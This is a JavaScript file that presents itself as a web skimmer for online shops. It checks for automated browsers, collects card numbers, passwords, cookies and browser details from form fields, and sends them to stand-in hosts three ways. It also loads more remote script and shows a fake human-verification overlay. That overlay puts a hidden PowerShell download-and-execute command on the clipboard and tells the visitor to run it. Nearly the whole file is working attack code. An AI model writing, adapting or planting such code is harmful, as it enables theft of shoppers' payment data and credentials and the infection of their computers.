// A script on a shop's pages that skims cards, and then asks the visitor to infect himself, with nobody behind it:
// it reads what identifies the visitor, watches the forms, sends what it has in three ways, brings in more of
// itself, and puts a command on the clipboard with words that ask to run it. `.example` is reserved by RFC 2606.

const collector = "https://metrics.storefront.example/c.gif?d=";
const more = "https://static.storefront.example/jquery.min.js";
const order = "powershell -w hidden -c \"iwr https://fix.storefront.example/a | iex\"";

function looksWatched() {
  return navigator.webdriver === true || navigator.plugins.length === 0 || screen.width < 320;
}

// What a card number is to the naked eye: thirteen to nineteen digits.
function isCard(text) {
  let digits = 0;
  for (const character of String(text)) if (character >= "0" && character <= "9") digits++;
  return digits >= 13 && digits <= 19;
}

function gather() {
  const fields = {};
  for (const field of document.querySelectorAll("input, select, textarea")) {
    if (isCard(field.value) || field.type === "password") fields[field.name || field.id] = field.value;
  }
  return { page: location.href, cookie: document.cookie, agent: navigator.userAgent, fields: fields };
}

function send(loot) {
  const text = btoa(unescape(encodeURIComponent(JSON.stringify(loot))));
  new Image().src = collector + text;
  navigator.sendBeacon("https://metrics.storefront.example/b", text);
  fetch("https://metrics.storefront.example/f", { method: "POST", body: text, mode: "no-cors" });
}

function bringMore() {
  const script = document.createElement("script");
  script.src = more;
  script.async = true;
  document.head.appendChild(script);
}

function pretend() {
  const box = document.createElement("div");
  box.innerHTML = "<h2>Verify you are human</h2><p>Press Win + R, then Ctrl + V, then Enter.</p>";
  box.setAttribute("style", "position:fixed;inset:0;background:#fff;z-index:99999");
  document.body.appendChild(box);
  navigator.clipboard.writeText(order);
}

if (!looksWatched()) {
  localStorage.setItem("_seen", String(Date.now()));
  document.addEventListener("submit", function () { send(gather()); }, true);
  send(gather());
  bringMore();
  setTimeout(pretend, 4000);
}
